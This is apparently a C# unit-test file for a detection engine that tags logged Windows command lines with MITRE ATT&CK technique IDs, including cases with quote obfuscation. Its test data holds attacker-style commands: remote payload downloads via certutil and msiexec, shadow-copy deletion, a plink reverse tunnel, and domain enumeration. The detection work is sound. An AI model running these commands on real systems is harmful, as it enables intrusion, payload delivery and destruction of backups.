namespace Culprit.Tests.Incidents;

/// <summary>What the command line of a program shows: no more than it asks for, and that however it is written.</summary>
public sealed class ProgramTechniqueTests : IDisposable
{
    private readonly LoggedWorld _world = new();

    public void Dispose() => _world.Dispose();

    [Theory]
    [InlineData("net.exe", "net user", "T1087.001")]
    [InlineData("net.exe", "net user bob", "T1087.001")]
    [InlineData("net.exe", "net user bob /domain", "T1087.002")]
    [InlineData("net.exe", "net user /domain bob", "T1087.002")]
    [InlineData("net.exe", "net user bob NewPass123!", "")]
    [InlineData("net.exe", "net user bob NewPass123! /domain", "")]
    [InlineData("net.exe", "net user bob \"\"", "")]
    [InlineData("net.exe", "net user bob /expires:never", "")]
    [InlineData("net.exe", "net user /?", "")]
    [InlineData("net1.exe", "net1 localgroup administrators", "T1069.001")]
    [InlineData("net1.exe", "net1 localgroup administrators /comment:x", "")]
    [InlineData("net.exe", "net group \"Domain Admins\" /do", "T1069.002")]
    [InlineData("net.exe", "net accounts /domain", "T1201")]
    [InlineData("net.exe", "net accounts /maxpwage:unlimited", "")]
    [InlineData("net.exe", "net view /all /domain", "T1018")]
    [InlineData("net.exe", @"net view \\fs-02 /all", "T1135")]
    [InlineData("net.exe", @"net session \\pc-2 /delete", "")]
    public void Net_asks_or_changes(string program, string command, string technique) => Assert.Equal(technique, Shown(program, command));

    [Theory]
    [InlineData("plink.exe -ssh -batch u@1.2.3.4 \"ls -R /tmp\"", "")]
    [InlineData("plink.exe -ssh -batch u@1.2.3.4 ls -R /tmp", "")]
    [InlineData("plink.exe -load saved ls -R /tmp", "")]
    [InlineData("plink.exe -l Ruth -pw -R host", "")]
    [InlineData("plink.exe -N -pw x -R 1:2:3 u@1.2.3.4", "T1572")]
    [InlineData("plink.exe u@1.2.3.4 -pw x -N -R 1:2:3", "T1572")]
    public void What_plink_runs_elsewhere_is_no_option_of_its_own(string command, string technique) => Assert.Equal(technique, Shown("plink.exe", command));

    [Theory]
    [InlineData("adfind.exe", "adfind -sc trustdmp", "T1482")]
    [InlineData("adfind.exe", "adfind -f (objectclass=trusteddomain)", "T1482")]
    [InlineData("adfind.exe", "adfind -f \"(objectcategory=computer)\" name trustedfordelegation", "T1018")]
    [InlineData("adfind.exe", "adfind -f (name=trusty)", "")]
    [InlineData("schtasks.exe", "schtasks /change /tn a /disable", "")]
    [InlineData("schtasks.exe", "schtasks /change /tn a /tr x.exe", "T1053.005")]
    [InlineData("schtasks.exe", "schtasks /create /?", "")]
    [InlineData("certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a.exe delete", "")]
    [InlineData("7za.exe", "7za.exe a a.7z x", "T1560.001")]
    [InlineData("7z.exe", "7z.exe -y a a.7z x", "T1560.001")]
    [InlineData("7z.exe", "7z.exe -y x a.7z", "")]
    [InlineData("rar.exe", "rar.exe -hpX a a.rar x", "T1560.001")]
    [InlineData("route.exe", "route -4 print", "T1016")]
    [InlineData("route.exe", "route -p add 10.0.0.0 1.2.3.4", "")]
    [InlineData("msiexec.exe", "msiexec /q /ihttp://203.0.113.9/a.msi", "T1218.007")]
    [InlineData("msiexec.exe", "msiexec /q /packagehttp://203.0.113.9/a.msi", "T1218.007")]
    [InlineData("msiexec.exe", "msiexec /q /x {1}", "")]
    public void A_word_counts_for_what_it_is(string program, string command, string technique) => Assert.Equal(technique, Shown(program, command));

    [Theory]
    [InlineData("vssadmin.exe", "vssadmin d\"elet\"e shadows", "T1490")]
    [InlineData("net.exe", "net u\"se\"r /domain", "T1087.002")]
    [InlineData("net.exe", "\"C:\\net tools\\net.exe\" user", "T1087.001")]
    [InlineData("netstat.exe", "netstat \"\" -ano", "T1049")]
    public void Quotes_hide_nothing(string program, string command, string technique) => Assert.Equal(technique, Shown(program, command));

    [Theory]
    [InlineData("rundll32.exe", @"rundll32 c:\a.dll,#1 -h", "T1218.011")]
    [InlineData("rundll32.exe", @"rundll32 c:\a.dll,#1 /?", "T1218.011")]
    [InlineData("powershell.exe", "powershell x.ps1 -help", "T1059.001")]
    [InlineData("powershell.exe", "powershell -?", "")]
    [InlineData("whoami.exe", "whoami /? /all", "")]
    public void The_first_word_asks_for_help(string program, string command, string technique) => Assert.Equal(technique, Shown(program, command));

    private string Shown(string program, string command)
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe")
            .Log(1, "PC-1", "Sysmon", 1, ("ProcessGuid", "{9}"), ("ParentProcessGuid", LoggedWorld.Guid("bad")), ("Image", @"C:\Tools\" + program), ("CommandLine", command));
        return Assert.Single(_world.Incidents()).Events[1].Techniques.Select(static one => one.Technique).SingleOrDefault() ?? "";
    }
}
